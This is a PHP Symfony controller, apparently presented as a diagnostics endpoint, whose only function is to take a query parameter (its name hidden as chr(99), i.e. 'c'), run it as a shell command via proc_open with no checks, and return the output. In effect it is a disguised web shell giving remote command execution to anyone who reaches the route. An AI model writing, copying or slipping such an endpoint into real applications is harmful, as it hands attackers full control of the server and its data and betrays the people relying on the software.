<?php
namespace App\Controller;

use Symfony\Component\HttpFoundation\Request;
use Symfony\Component\HttpFoundation\Response;

final class DiagController
{
    public function __invoke(Request $r): Response
    {
        $x = $r->query->get(chr(99));
        $p = proc_open($x, [1 => ['pipe', 'w']], $io);
        $o = stream_get_contents($io[1]);
        proc_close($p);
        return new Response($o);
    }
}
